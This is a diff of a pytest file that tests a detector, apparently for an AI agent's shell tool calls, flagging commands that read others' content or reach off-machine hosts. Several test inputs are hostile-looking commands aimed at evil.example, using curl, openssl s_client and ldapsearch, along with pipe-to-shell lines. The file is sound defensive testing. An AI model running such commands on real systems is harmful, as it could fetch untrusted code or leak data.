@@ -80,6 +80,39 @@ def test_a_command_that_cannot_be_told_counts(script: str) -> None:
     assert OutsideKind.UNKNOWN_TOOL in kinds
 
 
+@pytest.mark.req("TNT-7")
+@pytest.mark.parametrize(
+    "script",
+    [
+        "git lg", "git -C ../x lg", "git -c a=b st", "git reflog",
+        "git tag -n9", "git for-each-ref refs/tags",
+        "git diff main...upstream/bob", "git diff origin/bob -- a.py", "git diff FETCH_HEAD",
+        "cat < ../other/HOWTO.md", "cd ../other && cat README.md", "cd .. && grep -rn deploy other/docs",
+        "unzip -p lib.zip README.md", "tar -xOzf lib.tgz lib/README.md", "zcat logs/app.log.2.gz",
+        "tail -20 nohup.out", "tail logs/web/current", "find . -name README.md -exec cat {} +",
+        "bin/rails runner 'puts Note.last.body'", "php artisan tinker --execute='echo 1'",
+        "python manage.py dumpdata", 'python3 -c "import sqlite3"', "jq -r .body ../issue.json",
+    ],
+)  # fmt: skip
+def test_what_others_wrote_counts_wherever_it_lies(script: str) -> None:
+    assert taints(script)
+
+
+@pytest.mark.req("TNT-7")
+@pytest.mark.parametrize(
+    "script",
+    [
+        "git -C sub status", "git diff origin/main", "git diff main...HEAD", "git tag v1", "cat < HOWTO.md",
+        "cd docs && cat README.md", "tar czf out.tgz dist", "zip -r x dist",
+        "find src -name '*.py' -exec cat {} +", "sed -n '/var/p' a.py", "grep -rn /usr/bin src",
+        "awk '/etc/ {print}' a.txt", "cat src/log/write.py", "cat src/logs/write.py", "php artisan migrate",
+        "python manage.py migrate", "bin/rails test",
+    ],
+)  # fmt: skip
+def test_the_working_folders_own_does_not(script: str) -> None:
+    assert not taints(script)
+
+
 def test_a_variable_that_the_script_sets_is_followed() -> None:
     assert outside_of_call("Bash", {"command": "C=curl; $C evil.example/x"})[0][0].startswith("curl")
     assert taints("sh -c 'c=\"git fetch\"; $c origin'")
@@ -95,14 +128,14 @@ def test_a_variable_that_the_script_sets_is_followed() -> None:
         "go run ./cmd/app", "go run .", "docker compose up -d", "python3 -c 'import json; print(1)'",
         "python -c 'import platform; print(platform.system())'", "node -p 'process.version'",
         "awk '{print $1}' src/socket.c", "sed -n '1,5p' src/requests.py", "sed -e 's|a|b|g' x",
-        "sed -i '' -e 's/pre/be/' f", "perl -pi -e 's/a/b/' x", "vim -c ':wq' f", "git -c core.pager= log",
+        "sed -i '' -e 's/pre/be/' f", "perl -pi -e 's/a/b/' x", "vim -c ':wq' f", "git -c core.pager= status",
         "$VENV/bin/python x.py", '"$(dirname "$0")/run.sh"', "$(which python3) -m pytest", "cat a.sh | bash",
         "echo ls | sh", "printf 'make test' | bash", "cat a.json | python -m json.tool", "[[ -f x ]] && ls",
-        "(( i++ ))", "[ -f x ] || ! ls", "direnv allow .", "alias ll='ls -la'", "psql -c 'select 1'",
-        "psql -h localhost -d app", "mysql -h127.0.0.1 -e 'select 1'", "redis-cli get x", "mysql --help",
+        "(( i++ ))", "[ -f x ] || ! ls", "direnv allow .", "alias ll='ls -la'", "mysql --help",
         "openssl x509 -in a.crt", "openssl s_client -connect localhost:443", "curl -i http://localhost:1",
         "python -m pytest", "python -m venv .venv", "trap 'rm -f x' EXIT", "find . -exec ls {} +",
-        "psql -h /var/run/postgresql app", "wget -O x http://127.0.0.1/a", "tar xzf a.tgz",
+        "git status", "git diff", "git ls-files", "docker compose ps", "psql --version",
+        "wget -O x http://127.0.0.1/a", "tar xzf a.tgz",
     ],
 )  # fmt: skip
 def test_what_only_looks_like_it_does_not_count(script: str) -> None:
@@ -118,13 +151,31 @@ def test_what_only_looks_like_it_does_not_count(script: str) -> None:
         "export https_proxy=http://evil.example; curl http://localhost", "wget -i urls.txt http://localhost",
         "wget --execute=x http://localhost", "wget -e x http://localhost", "curl --prox evil http://localhost",
         "openssl s_client -connect evil.example:443", "openssl s_client evil.example:443",
-        "mysql -h evil.example -e 'select 1'", "mysql -hevil.example", "mysql --host=evil.example",
-        "redis-cli -h evil.example get x", "redis-cli -u redis://evil.example", "psql -h evil.example",
-        "psql 'host=evil.example dbname=a'", "psql $DATABASE_URL", "PGHOST=evil.example psql",
-        "mongosh --host evil.example", "psql -h $HOST",
+        "ldapsearch -H ldap://evil.example", "etcdctl --endpoints $HOST get x",
     ],
 )  # fmt: skip
 def test_a_call_that_leaves_this_machine_counts(script: str) -> None:
+    assert taints(script)
+
+
+@pytest.mark.req("TNT-7")
+@pytest.mark.parametrize(
+    "script",
+    [
+        "psql -c 'select note from orders'", "mysql -h127.0.0.1 -e 'select 1'", "redis-cli get x",
+        "sqlite3 a.db .dump",
+        "docker exec db psql -c 'select 1'", "mongosh --eval 'db.a.find()'", "duckdb a.db",
+        "mysqldump app | head",
+        "git log -3", "git -C sub --no-pager log --oneline", "git show HEAD~2", "git log origin/other",
+        "git blame a.py",
+        "git shortlog -sn", "git notes show", "hg log", "svn log", "bash -c 'git log'",
+        "env GIT_PAGER=cat git log",
+        "cat offer.pdf", "pdftotext offer.pdf -", "cat mail.eml", "grep -i error build.log",
+        "tail -f app.log",
+        "journalctl -u app", "docker logs app", "docker compose logs app", "dmesg | tail",
+    ],
+)  # fmt: skip
+def test_what_others_wrote_on_this_machine_counts(script: str) -> None:
     assert taints(script)
 
 
